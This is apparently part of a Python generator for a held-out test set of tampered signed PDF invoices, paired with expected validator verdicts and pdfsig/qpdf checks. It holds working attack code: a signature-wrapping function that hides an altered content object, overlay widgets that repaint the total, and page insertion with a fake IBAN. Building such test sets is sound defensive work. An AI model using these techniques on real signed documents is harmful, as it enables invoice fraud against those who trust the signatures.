        widget = (b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approval) /F 4 /Rect [70 645 330 667] /P %d 0 R '
                  b'/AP << /N %d 0 R >> >>' % (page1, sz + 1))
        apobj = stream_obj(sneaky_ap, b'/Type /XObject /Subtype /Form /BBox [0 0 260 22] /Resources << /Font << /F2 %d 0 R >> >> ' % L['font_hb'])
        objs = add_to_annots(signed, page1, sz)
        af = L['acroform']
        af_body = get_obj(signed, af)
        objs[af] = re.sub(rb'/Fields \[([^\]]*)\]', lambda m: b'/Fields [' + m.group(1).strip() + b' %d 0 R]' % sz, af_body)
        objs[sz] = widget
        objs[sz + 1] = apobj
        sneaky = incremental_update(signed, objs, size=sz + 2)
        add('sneaky_sigfield_unsigned_overlay.pdf', sneaky, 'panel', 'invalid|modified-after-signing', 'sneaky-signature',
            'Update adds an EMPTY signature field "Approval" (no /V) whose widget appearance paints a white box and '
            '"Total due: EUR 9,850.00" over the real total. Adding an empty signature field is normally a harmless change, '
            'but this appearance covers page content, so it must not pass as "only further signatures".')
        sz = size_of(sneaky)
        wid = get_obj(sneaky, size_of(signed))
        sneaky_signed = openssl_sign_update(S, sneaky, {
            size_of(signed): wid[:-2].rstrip() + b' /V %d 0 R >>' % sz,
            sz: sig_value_dict('Heldout Customer Countersigner', 'Approval')}, 'cosigner', size=sz + 1)
        add('sneaky_sigfield_signed_overlay.pdf', sneaky_signed, 'panel', 'invalid|modified-after-signing', 'sneaky-signature',
            'Same, then the "Approval" field is really signed (second certificate, CMS by openssl cms, the overlay appearance '
            'kept). The second signature is valid and covers the overlay, but the FIRST signature is followed by revisions that '
            'add a signature widget whose appearance paints over the total, so at least one panel must not be valid.')

        # ---------------- garbage tail ----------------
        add('garbage_tail_after_eof.pdf', signed + b'\n% appended after signing\nTotal due: EUR 9,850.00\n\x00\x01\x02\xff garbage\n',
            'panel', 'invalid|modified-after-signing', 'tail',
            'Bytes appended after %%EOF that are not an incremental update (a comment, a text line, binary junk). The '
            'ByteRange no longer reaches the end of the file.')

        # ---------------- pages ----------------
        sz = size_of(signed)
        page3_content = (b'BT /F2 14 Tf 1 0 0 1 72 770 Tm (Addendum to invoice 2024-017) Tj ET\n'
                         b'BT /F1 11 Tf 1 0 0 1 72 740 Tm (Additional services: EUR 8,600.00. New total due: EUR 9,850.00) Tj ET\n'
                         b'BT /F1 11 Tf 1 0 0 1 72 724 Tm (%s) Tj ET\n' % pdf_str(FAKE_IBAN))
        pages_body = get_obj(signed, pages)
        new_pages = re.sub(rb'/Kids \[([^\]]*)\]', lambda m: b'/Kids [' + m.group(1).strip() + b' %d 0 R]' % sz, pages_body)
        new_pages = re.sub(rb'/Count \d+', b'/Count 3', new_pages)
        newpage = (b'<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595.2756 841.8898] /Contents %d 0 R '
                   b'/Resources << /Font %d 0 R >> >>' % (pages, sz + 1, L['fontres']))
        add('page_added.pdf', incremental_update(signed, {pages: new_pages, sz: newpage, sz + 1: stream_obj(page3_content)}, size=sz + 2),
            'panel', 'invalid|modified-after-signing', 'pages',
            'Update appends a third page ("Addendum ... New total due: EUR 9,850.00", other IBAN): Pages /Kids and /Count rewritten.')
        kids = [int(k) for k in re.findall(rb'(\d+) 0 R', re.search(rb'/Kids \[([^\]]*)\]', pages_body).group(1))]
        new_pages = re.sub(rb'/Kids \[([^\]]*)\]', b'/Kids [%d 0 R]' % kids[0], pages_body)
        new_pages = re.sub(rb'/Count \d+', b'/Count 1', new_pages)
        add('page_removed.pdf', incremental_update(signed, {pages: new_pages}), 'panel', 'invalid|modified-after-signing', 'pages',
            'Update rewrites the Pages node: /Kids keeps only page 1 and /Count 1, so page 2 (terms and conditions) disappears.')

        # ---------------- write ----------------
        for fn in os.listdir(out):
            if fn.endswith('.pdf'):
                os.remove(os.path.join(out, fn))
        for name, (data, *_rest) in files.items():
            with open(os.path.join(out, name), 'wb') as f:
                f.write(data)
        shutil.copy(S.ca_crt, os.path.join(out, 'heldout-ca.crt'))
        report(out, files, S.db)
    finally:
        shutil.rmtree(work, ignore_errors=True)


def add_to_annots(data, page, new_ref):
    """Objects to rewrite so that page's /Annots also lists new_ref."""
    body = get_obj(data, page)
    m = re.search(rb'/Annots\s+(\d+) 0 R', body)
    if m:
        n = int(m.group(1))
        arr = get_obj(data, n)
        return {n: arr.rstrip()[:-1].rstrip() + b' %d 0 R]' % new_ref}
    m = re.search(rb'/Annots\s*\[([^\]]*)\]', body)
    if m:
        return {page: body[:m.start()] + b'/Annots [' + m.group(1).strip() + b' %d 0 R]' % new_ref + body[m.end():]}
    return {page: body.replace(b'/Type /Page', b'/Type /Page /Annots [%d 0 R]' % new_ref, 1)}


def swa(signed, content1, evil_c1):
    sd = sig_dicts(signed)[-1]
    a, b = sd['contents']
    br0, br1 = sd['br']
    L = len(signed)
    c = L - b
    sx = last_startxref(signed)           # offset the signed (relocated) startxref will point to
    assert b < br0 < br1 < sx, (b, br0, br1, sx)
    # part of the second range that precedes the ByteRange text, and the rest up to the xref
    head = signed[b:br0]
    closing = signed[br1:sx]              # e.g. " >> \r\nendobj\r\n"
    # the new xref sits exactly at sx; malicious object and relocated block come after it.
    # Its table lists every object the signed revision's table listed, plus the evil object.
    # entries of the newest section only
    newest = {}
    p = sx + len(b'xref')
    data = signed
    m = re.match(rb'\s*', data[p:])
    p += m.end()
    while True:
        m = re.match(rb'(\d+) (\d+)\s*\r?\n', data[p:])
        if not m:
            break
        st, cnt = int(m.group(1)), int(m.group(2))
        p += m.end()
        for k in range(cnt):
            ent = data[p:p + 20]
            if ent[17:18] == b'n':
                newest[st + k] = (int(ent[0:10]), int(ent[11:16]))
            p += 20
    _, tr = parse_xref_chain(signed)
    size = size_of(signed)
    prev = int(re.search(rb'/Prev\s+(\d+)', tr).group(1))
    root = root_num(signed)

    def assemble(bprime):
        new_br = b'/ByteRange [0 %d %d %d]' % (a, bprime, c)
        new_br = new_br + b' ' * ((br1 - br0) - len(new_br))
        assert len(new_br) == br1 - br0
        pre = signed[:b] + head + new_br + closing
        assert len(pre) == sx
        # xref at sx; evil object placed after the trailer
        entries = dict(newest)
        evil_obj = b'%d 0 obj\n' % content1 + stream_obj(evil_c1) + b'\nendobj\n'
        # two passes to get the offset of the evil object (xref length does not depend on it)
        entries[content1] = 0
        xr = xref_table(entries) + b'trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n' % (size, root, prev)
        entries[content1] = sx + len(xr)
        xr = xref_table(entries) + b'trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n' % (size, root, prev)
        assert entries[content1] == sx + len(xr)
        body = pre + xr + evil_obj + b'%% relocated signed bytes follow\n'
        return body

    body = assemble(0)
    bprime = len(body)
    body = assemble(bprime)
    assert len(body) == bprime
    out = body + signed[b:]
    assert out[bprime:bprime + c] == signed[b:b + c] and len(out) == bprime + c
    return out


# ---------------------------------------------------------------------------------------
# Verification + README/MANIFEST
# ---------------------------------------------------------------------------------------

def pdfsig_summary(path, db):
    r = run(['pdfsig', '-nssdir', db, path], check=False)
    txt = (r.stdout + r.stderr).decode('latin1')
    lines = []
    for ln in txt.splitlines():
        ln = ln.strip()
        if ln.startswith('Signature #'):
            lines.append(ln.rstrip(':'))
        elif ln.startswith('- Signed Ranges') or ln.startswith('- Signature Validation') or \
                'document signed' in ln or ln.startswith('- Signer Certificate Common Name') or \
                ln.startswith('- Signature Field Name'):
            lines.append(ln.lstrip('- '))
        elif 'does not contain any signatures' in ln:
            lines.append('no signatures')
        elif ln.startswith('Syntax Error') or ln.startswith('Internal Error') or ln.startswith('Syntax Warning'):
            lines.append(ln)
    dedup = []
    for ln in lines:
        if not (dedup and dedup[-1] == ln):
            dedup.append(ln)
    return 'rc=%d; ' % r.returncode + '; '.join(dedup)


def render_page1(path):
    from PIL import Image
    base = tempfile.mktemp(prefix='heldout-render-')
    run(['pdftocairo', '-png', '-r', '72', '-f', '1', '-l', '1', '-singlefile', path, base])
    im = Image.open(base + '.png').convert('L')
    im.load()
    os.remove(base + '.png')
    return im


def render_diff(path, ref):
    """Compare what page 1 LOOKS like (annotations included) with the signed original,
    in the total line and the IBAN line (PDF y 620..672, x 60..340 at 72 dpi)."""
    from PIL import ImageChops
    try:
        im = render_page1(path)
    except RuntimeError:
        return 'render failed'
    h = ref.size[1]
    out = []
    for label, (x0, y0, x1, y1) in (('total', (60, 645, 340, 667)), ('IBAN', (60, 622, 340, 640)),
                                     ('amount field', (380, 588, 540, 612))):
        box = (x0, h - y1, x1, h - y0)
        d = ImageChops.difference(im.crop(box), ref.crop(box)).point(lambda v: 255 if v > 64 else 0)
        out.append('%s %d px' % (label, sum(1 for v in d.getdata() if v)))
    return ', '.join(out)


def report(out, files, db):
    rows = []
    checks = []
    refs = {r: render_page1(os.path.join(out, r)) for r in ('ctl_signed_valid.pdf', 'ctl_form_signed_valid.pdf')}
    for name in sorted(files):
        data, status, integ, family, note = files[name]
        p = os.path.join(out, name)
        q = run(['qpdf', '--check', p], check=False)
        qtxt = (q.stdout + q.stderr).decode('latin1')
        qsum = 'ok' if q.returncode == 0 else ('warnings' if q.returncode == 3 else 'errors(rc=%d)' % q.returncode)
        if q.returncode != 0:
            first = [l for l in qtxt.splitlines() if 'WARNING' in l or 'error' in l.lower()][:2]
            qsum += ': ' + ' | '.join(first).replace(p, name)
        t = run(['pdftotext', '-layout', p, '-'], check=False)
        ttxt = t.stdout.decode('utf-8', 'replace')
        totals = sorted(set(re.findall(r'EUR [0-9],[0-9]{3}\.[0-9]{2}', ttxt)))
        npages = ttxt.count('\f')
        ptxt = 'rc=%d, pages=%d, amounts seen: %s%s' % (t.returncode, npages, ', '.join(totals) or '(none)',
                                                         ', fake IBAN shown' if 'LT12' in ttxt else '')
        ref = 'ctl_form_signed_valid.pdf' if 'form' in name else 'ctl_signed_valid.pdf'
        ptxt += '; page-1 pixels differing from %s: %s' % (ref[:-4], render_diff(p, refs[ref]))
        sig = pdfsig_summary(p, db)
        checks.append((name, len(data), qsum, ptxt, sig))
        rows.append('\t'.join([name, status, integ, family, note]))
    with open(os.path.join(out, 'MANIFEST.tsv'), 'w') as f:
        f.write('file\texpected_status\texpected_integrity\tfamily\tnote\n')
        f.write('\n'.join(rows) + '\n')
    with open(os.path.join(HERE, 'README.template.md')) as f:
        tpl = f.read()
    table = ['| file | bytes | qpdf --check | pdftotext | pdfsig (Poppler 22.12, with the set\'s CA trusted) |',
             '|---|---|---|---|---|']
    for name, n, qsum, ptxt, sig in checks:
        table.append('| `%s` | %d | %s | %s | %s |' % (name, n, qsum.replace('|', '/'), ptxt, sig.replace('|', '/')))
    mf = ['| file | status | integrity | family | what it is |', '|---|---|---|---|---|']
    for name in sorted(files):
        _, status, integ, family, note = files[name]
        mf.append('| `%s` | %s | %s | %s | %s |' % (name, status.replace('|', '\\|'), integ.replace('|', '\\|'), family,
                                                   note.replace('|', '/')))
    with open(os.path.join(out, 'README.md'), 'w') as f:
        f.write(tpl.replace('@@FILES@@', '\n'.join(mf)).replace('@@CHECKS@@', '\n'.join(table)))
    for name, n, qsum, ptxt, sig in checks:
        print('%-42s %6d  qpdf:%s\n    text: %s\n    pdfsig: %s' % (name, n, qsum, ptxt, sig))


if __name__ == '__main__':
    os.makedirs(OUT, exist_ok=True)
    build(OUT)
